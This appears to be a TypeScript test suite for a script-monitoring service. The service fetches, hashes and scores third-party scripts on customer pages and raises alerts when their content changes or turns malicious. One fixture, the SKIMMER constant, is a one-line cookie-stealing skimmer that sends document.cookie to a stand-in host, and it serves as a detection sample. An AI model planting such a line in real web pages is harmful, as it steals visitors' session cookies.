import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it, mock } from 'node:test';
import { gzipSync } from 'node:zlib';
import { withoutNode } from '../../src/app/modules.ts';
import {
  sampleHash,
  sampleScript,
} from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
import type { Alert } from '../../src/contracts/alert.ts';
import type { PageObservation } from '../../src/contracts/events/page-observation.ts';
import { ThreadedClassifier } from '../../src/detectors/script-classifier/threaded-classifier.ts';
import { describeOnEachDatabase } from '../support/databases.ts';
import { originOf, siteOf } from '../support/edge-snapshots.ts';
import { openTestApi, type TestApi } from '../support/test-api.ts';
import { openTestEdge, type TestEdge } from '../support/test-edge.ts';

const HOUR = 3_600_000;
const CLEAN = 'document.title = "Welcome";';
const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
const hashOf = (source: string) => createHash('sha256').update(source).digest('hex');
const never = new AbortController().signal;

interface Answer {
  readonly status: number;
  readonly type: string;
  readonly location?: string;
  readonly body: Buffer;
}

describeOnEachDatabase('fetching of scripts', (kind) => {
  let api: TestApi;
  let server: Server;
  let origin: string;
  const contents = new Map<string, string>();
  const answers = new Map<string, Answer>();
  /** Happens after the content was chosen, before it is sent. */
  const whenFetched = new Map<string, () => Promise<void>>();
  const fetched: string[] = [];
  /** The edge of this node, while it has one. */
  let edge: TestEdge | undefined;

  before(async () => {
    api = await openTestApi(kind, {
      settings: { PALISADE_OUTBOUND_ALLOW: '127.0.0.1/32' },
      node: {
        ...withoutNode,
        fetchFromSite: async (request) => (await edge?.fetch(request)) ?? 'not-served',
      },
    });
    server = createServer(async (request, response) => {
      fetched.push(request.url ?? '');
      const answer = answers.get(request.url ?? '');
      if (answer) {
        const { status, type, location, body } = answer;
        const headers = { 'content-type': type, ...(location && { location }) };
        return void response.writeHead(status, headers).end(body);
      }
      const content = contents.get(request.url ?? '');
      await whenFetched.get(request.url ?? '')?.();
      if (content === undefined) return void response.writeHead(404).end();
      response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(content));
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    server.close();
    await api.close();
  });

  /** With pages that are watched. */
  async function newZone(plan?: string): Promise<string> {
    const zoneId = await api.newZone(plan);
    await watch(zoneId, true);
    return zoneId;
  }

  async function watch(zoneId: string, enabled: boolean): Promise<void> {
    await api.call('PUT', `/zones/${zoneId}/page_shield`, { body: { enabled } });
  }

  async function see(zoneId: string, url: string, count = 3): Promise<void> {
    await deliver(seen(zoneId, url, count));
  }

  function seen(zoneId: string, url: string, count = 3): PageObservation {
    const now = api.clock.now();
    return sampleScript(zoneId, { url, count, firstSeenAt: now, lastSeenAt: now });
  }

  /** Visitors report the hash of what they were given. */
  async function receive(zoneId: string, url: string, ...sources: string[]): Promise<void> {
    await deliver(...sources.map((source) => sampleHash(zoneId, hashOf(source), { url })));
  }

  async function deliver(...observations: PageObservation[]): Promise<void> {
    assert.equal(await api.deliver('page-observations', observations), 0);
  }

  async function run(job = 'page-script-fetch'): Promise<void> {
    const jobs = api.core.modules.flatMap((module) => module.jobs);
    await jobs.find(({ name }) => name === job)?.run(never);
  }

  const fetches = (path: string) => fetched.filter((each) => each === path).length;

  async function only(zoneId: string) {
    const base = `/zones/${zoneId}/page_shield/scripts`;
    const list = await api.call('GET', `${base}?status=active,infrequent,inactive`);
    const { id } = list.body.result[0];
    const script = (await api.call('GET', `${base}/${id}`)).body.result;
    const { reasons } = (await api.call('GET', `${base}/${id}/reasons`)).body.result;
    return { script, reasons };
  }

  async function found(zoneId: string): Promise<Alert[]> {
    const all = await api.alerts();
    return all.filter((each) => each.zoneId === zoneId && !each.kind.startsWith('page_new_'));
  }

  const alerts = async (zoneId: string) => (await found(zoneId)).map((each) => each.kind);
  /** What alerts say besides when and where. */
  const hashes = async (zoneId: string) =>
    (await found(zoneId)).map(({ version, id, accountId, zoneId: _, at, ...rest }) => {
      const { resource: __, ...said } = rest as typeof rest & { resource: unknown };
      return said;
    });

  it('happens when a script becomes active and once a day, and tells of changes', async () => {
    const zoneId = await newZone();
    const url = `${origin}/shop.js`;
    contents.set('/shop.js', CLEAN);
    await see(zoneId, url, 2);
    await run();
    assert.equal((await only(zoneId)).script.hash, null);
    await see(zoneId, url, 1);
    await run();
    await run();
    const first = await only(zoneId);
    assert.equal(fetches('/shop.js'), 1);
    assert.match(first.script.hash, /^[0-9a-f]{64}$/);
    assert.ok(first.script.js_integrity_score > 50);
    assert.equal(first.script.versions.length, 1);
    assert.deepEqual(await alerts(zoneId), []);

    contents.set('/shop.js', SKIMMER);
    await api.clock.advance(24 * HOUR);
    await run();
    const second = await only(zoneId);
    assert.ok(second.script.js_integrity_score < 10);
    assert.deepEqual(
      second.script.versions.map(({ hash }: { hash: string }) => hash),
      [second.script.hash, first.script.hash],
    );
    assert.ok(second.reasons.length > 0 && second.reasons[0].points > 0);
    assert.deepEqual(await alerts(zoneId), ['page_code_change', 'page_malicious_script']);

    // The same again is no news.
    await api.clock.advance(24 * HOUR);
    await run();
    assert.equal((await only(zoneId)).script.versions.length, 2);
    assert.equal((await alerts(zoneId)).length, 2);
  });

  it('gives scripts without scores a hash, and leaves alone what cannot be fetched', async () => {
    const zoneId = await newZone();
    contents.set('/large.js', `var a = "${'x'.repeat(310_000)}";`);
    await see(zoneId, `${origin}/large.js`);
    await run();
    const { script } = await only(zoneId);
    assert.match(script.hash, /^[0-9a-f]{64}$/);
    assert.equal(script.js_integrity_score, null);

    const other = await newZone();
    await see(other, `${origin}/missing.js`);
    const refused = await newZone();
    await see(refused, 'http://10.0.0.1/private.js');
    await run();
    for (const zone of [other, refused]) assert.equal((await only(zone)).script.hash, null);
    contents.set('/missing.js', CLEAN);
    await run();
    assert.equal((await only(other)).script.hash, null);
    await api.clock.advance(HOUR);
    await run();
    assert.notEqual((await only(other)).script.hash, null);
  });

  it('keeps what is known of a content when it cannot be judged again', async () => {
    const zoneId = await newZone();
    const url = `${origin}/bad.js`;
    contents.set('/bad.js', SKIMMER);
    await see(zoneId, url);
    await run();
    const before = (await only(zoneId)).script;
    assert.ok(before.js_integrity_score < 10);
    const failing = mock.method(ThreadedClassifier.prototype, 'classify', async () => undefined);
    await api.clock.advance(25 * HOUR);
    await see(zoneId, url);
    await run();
    assert.equal((await only(zoneId)).script.js_integrity_score, before.js_integrity_score);
    // Other content is another matter: nothing is known of it, until it can be judged soon after.
    contents.set('/bad.js', CLEAN);
    await api.clock.advance(HOUR);
    await run();
    assert.equal((await only(zoneId)).script.js_integrity_score, null);
    failing.mock.restore();
    await api.clock.advance(HOUR);
    await run();
    assert.ok((await only(zoneId)).script.js_integrity_score > 90);
  });

  it('reads scripts as browsers do', async () => {
    const zoneId = await newZone();
    answers.set('/wide.js', {
      status: 203,
      type: 'text/javascript',
      body: Buffer.from(`\ufeff${SKIMMER}`, 'utf16le'),
    });
    await see(zoneId, `${origin}/wide.js`);
    await run();
    assert.ok((await only(zoneId)).script.js_integrity_score < 10);
  });

  it('says why a script has no scores', async () => {
    const zoneId = await newZone();
    contents.set('/page.js', '<!doctype html><p>Not found</p>');
    await see(zoneId, `${origin}/page.js`);
    await run();
    const { script } = await only(zoneId);
    assert.equal(script.js_integrity_score, null);
    const path = `/zones/${zoneId}/page_shield/scripts/${script.id}/reasons`;
    const [reason] = (await api.call('GET', path)).body.result.reasons;
    assert.equal(reason.id, 'not-javascript');
  });

  it('is left out where the plan does not include it', async () => {
    const zoneId = await newZone('business');
    contents.set('/plain.js', CLEAN);
    await see(zoneId, `${origin}/plain.js`);
    await run();
    assert.ok(!fetched.includes('/plain.js'));
  });

  describe('of a site that this node serves', () => {
    let zoneId: string;
    let host: string;

    before(async () => {
      zoneId = await newZone();
      const { name } = (await api.call('GET', `/zones/${zoneId}`)).body.result;
      host = `www.${name}`;
      const { zone, pool } = siteOf(name, [originOf(Number(new URL(origin).port))]);
      edge = await openTestEdge({ zones: [{ ...zone, zoneId }], pools: [pool] });
    });
    after(async () => {
      await edge?.close();
      edge = undefined;
    });

    /** The script as it is known after it was seen on a page and fetched. */
    async function scored(url: string, pageUrl: string) {
      const times = { firstSeenAt: api.clock.now(), lastSeenAt: api.clock.now() };
      await deliver(sampleScript(zoneId, { url, pageUrl, count: 3, ...times }));
      await run();
      const path = `/zones/${zoneId}/page_shield/scripts?urls=${encodeURIComponent(url)}`;
      return (await api.call('GET', path)).body.result[0];
    }

    it('goes through the edge: the names of its hosts lead nowhere', async () => {
      contents.set('/own.js', CLEAN);
      const ofPage = await scored(`http://${host}:8080/own.js`, `http://${host}:8080/cart`);
      assert.equal(ofPage.hash, hashOf(CLEAN));
      assert.ok(ofPage.js_integrity_score > 50);
      contents.set('/static.js', SKIMMER);
      const ofOther = await scored(`https://static.${host}/static.js`, `https://${host}/cart`);
      assert.ok(ofOther.js_integrity_score < 10);
    });

    it('follows redirects within the site and to others', async () => {
      const redirect = (location: string) => ({
        status: 302,
        type: 'text/plain',
        location,
        body: Buffer.alloc(0),
      });
      contents.set('/target.js', CLEAN);
      answers.set('/moved.js', redirect('/target.js'));
      answers.set('/away.js', redirect(`${origin}/target.js`));
      answers.set('/private.js', redirect('http://10.0.0.1/target.js'));
      answers.set('/around.js', redirect('/around.js'));
      const hashAt = async (path: string) =>
        (await scored(`https://${host}${path}`, `https://${host}/cart`)).hash;
      assert.equal(await hashAt('/moved.js'), hashOf(CLEAN));
      assert.equal(await hashAt('/away.js'), hashOf(CLEAN));
      assert.equal(await hashAt('/private.js'), null);
      assert.equal(await hashAt('/around.js'), null);
      assert.equal(fetches('/around.js'), 6);
      answers.delete('/away.js');
    });
  });

  it('stops when a script is no longer active, and starts when it is seen again', async () => {
    const zoneId = await newZone();
    contents.set('/rare.js', CLEAN);
    await see(zoneId, `${origin}/rare.js`);
    await run();
    await api.clock.advance(8 * 24 * HOUR);
    await run();
    assert.equal(fetches('/rare.js'), 1);
    await see(zoneId, `${origin}/rare.js`, 1);
    await run();
    assert.equal(fetches('/rare.js'), 2);
  });

  it('stops while the pages of a zone are not watched', async () => {
    const zoneId = await newZone();
    contents.set('/off.js', CLEAN);
    await see(zoneId, `${origin}/off.js`);
    await watch(zoneId, false);
    await run();
    assert.equal(fetches('/off.js'), 0);
    await watch(zoneId, true);
    await run();
    assert.equal(fetches('/off.js'), 0);
    await see(zoneId, `${origin}/off.js`, 1);
    await run();
    assert.equal(fetches('/off.js'), 1);
  });

  it('gives each zone its share, however much another has', async () => {
    const [large, small] = [await newZone(), await newZone()];
    const urls = Array.from({ length: 230 }, (_, n) => `${origin}/large/${n}.js`);
    await deliver(...urls.map((url) => seen(large, url)));
    await api.clock.advance(1);
    await see(small, `${origin}/small.js`);
    const counts: number[] = [];
    for (let n = 0; n < 4; n++) {
      const before = fetched.length;
      await run();
      const paths = fetched.slice(before);
      counts.push(paths.filter((path) => path.startsWith('/large/')).length);
      // As many as are fetched at once may come before it.
      if (n === 0) assert.ok(paths.slice(0, 16).includes('/small.js'));
      await api.clock.advance(30_000);
    }
    assert.deepEqual(counts, [100, 100, 30, 0]);
  });

  it('follows at once when visitors received something else, and tells what it did not get', async () => {
    const zoneId = await newZone();
    const path = '/served.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await receive(zoneId, url, 'before it was ever seen');
    await see(zoneId, url);
    await run();
    await receive(zoneId, url, CLEAN);
    await run();
    assert.equal(fetches(path), 1);

    // A change that visitors saw before the daily fetch.
    const changed = `${CLEAN}//2`;
    contents.set(path, changed);
    await receive(zoneId, url, changed, CLEAN);
    await run();
    assert.equal(fetches(path), 2);
    assert.deepEqual(await hashes(zoneId), [
      { kind: 'page_code_change', hash: hashOf(changed), hashBefore: hashOf(CLEAN) },
    ]);

    // Code that only visitors are given.
    await receive(zoneId, url, SKIMMER);
    await run();
    await receive(zoneId, url, SKIMMER, CLEAN, changed);
    await run();
    assert.equal(fetches(path), 3);
    const [, about, ...more] = await found(zoneId);
    assert.deepEqual(more, []);
    assert.ok(about?.kind === 'page_foreign_code');
    assert.equal(about.resource.url, url);
    assert.equal(about.hash, hashOf(SKIMMER));
    assert.equal(about.fetchedHash, hashOf(changed));
  });

  it('tells of ten hashes of a script that visitors received, until these are forgotten', async () => {
    const zoneId = await newZone();
    const path = '/personal.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    const visitors = Array.from({ length: 8 }, (_, n) => `for visitor ${n}`);
    await receive(zoneId, url, ...visitors);
    await receive(zoneId, url, 'a', 'b', 'c', 'd');
    await run();
    await receive(zoneId, url, 'e');
    await run();
    assert.equal(fetches(path), 2);
    assert.equal(new Set((await found(zoneId)).map(({ id }) => id)).size, 10);
    for (let days = 0; days <= 30; days += 6) {
      await see(zoneId, url, 1);
      await api.clock.advance(6 * 24 * HOUR);
    }
    await run('page-item-trim');
    await receive(zoneId, url, 'e');
    await run();
    assert.equal((await found(zoneId)).length, 11);
  });

  it('looks again for what visitors received while it was under way', async () => {
    const zoneId = await newZone();
    const path = '/deployed.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    await api.clock.advance(24 * HOUR);
    await see(zoneId, url);
    // The origin has answered with the old content; it was a false alarm that visitors get something else.
    const changed = `${CLEAN}//3`;
    whenFetched.set(path, async () => {
      contents.set(path, changed);
      await api.clock.advance(1_000);
      await receive(zoneId, url, changed);
    });
    await run();
    assert.deepEqual(await alerts(zoneId), []);
    whenFetched.delete(path);
    await run();
    assert.equal(fetches(path), 3);
    assert.deepEqual(await hashes(zoneId), [
      { kind: 'page_code_change', hash: hashOf(changed), hashBefore: hashOf(CLEAN) },
    ]);
    await run();
    assert.equal(fetches(path), 3);
  });

  it('tells of one more hash each day when there were ten, which anybody can make up', async () => {
    const zoneId = await newZone();
    const path = '/silenced.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    await receive(zoneId, url, ...Array.from({ length: 10 }, (_, n) => `made up ${n}`));
    await run();
    await api.clock.advance(23 * HOUR);
    await see(zoneId, url);
    await receive(zoneId, url, SKIMMER);
    await run();
    assert.equal((await found(zoneId)).length, 10);
    await api.clock.advance(HOUR);
    await receive(zoneId, url, SKIMMER, 'made up 10');
    await receive(zoneId, url, 'made up 11');
    await run();
    const received = (await found(zoneId)).map((each) => 'hash' in each && each.hash);
    assert.deepEqual(received.slice(10), [hashOf(SKIMMER)]);
  });

  it('looks for what visitors received when it can be had again', async () => {
    const zoneId = await newZone();
    const path = '/away.js';
    const url = `${origin}${path}`;
    contents.set(path, CLEAN);
    await see(zoneId, url);
    await run();
    contents.delete(path);
    await receive(zoneId, url, SKIMMER);
    await run();
    assert.deepEqual(await alerts(zoneId), []);
    contents.set(path, CLEAN);
    await api.clock.advance(HOUR);
    await run();
    assert.deepEqual(await alerts(zoneId), ['page_foreign_code']);
  });
});
